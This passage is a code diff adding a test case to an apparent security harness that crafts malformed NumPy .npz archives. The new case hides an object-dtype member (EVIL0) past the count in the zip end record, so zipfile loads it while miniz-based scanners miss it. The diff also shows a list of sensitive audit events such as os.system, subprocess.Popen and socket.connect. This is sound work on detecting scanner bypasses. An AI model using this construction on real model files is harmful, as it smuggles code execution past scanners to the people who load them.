@@ -218,6 +218,18 @@ lead = local("lead.txt", b"lead")
 add("npz behind a leading entry (zipfile's offset shift)", "npz", lead + npz)
 
 
+# The end record counts one entry; the central directory holds two (zipfile reads entries until the
+# directory's size is used up, miniz reads the count). The second member's local header sits after a
+# gap, where no walk of local headers reaches it.
+plain = npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }", b"\x00" * 8)
+evil_npy = npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", EVIL0)
+first = local("arr_0.npy", plain)
+second_at = len(first) + 4
+body = first + b"\x00" * 4 + local("arr_1.npy", evil_npy)
+cd = central("arr_0.npy", plain, 0) + central("arr_1.npy", evil_npy, second_at)
+add("npz: a member beyond the end record's count", "npz", body + cd + end(1, len(cd), len(body), 0))
+
+
 # --- Proof: load each case as its victim does, under an audit hook ----------------------
 SENSITIVE = ("os.system", "os.posix_spawn", "os.exec", "os.spawn", "os.fork", "subprocess.Popen", "webbrowser.open",
              "socket.connect", "socket.getaddrinfo", "urllib.Request", "os.remove", "os.rmdir", "os.rename",
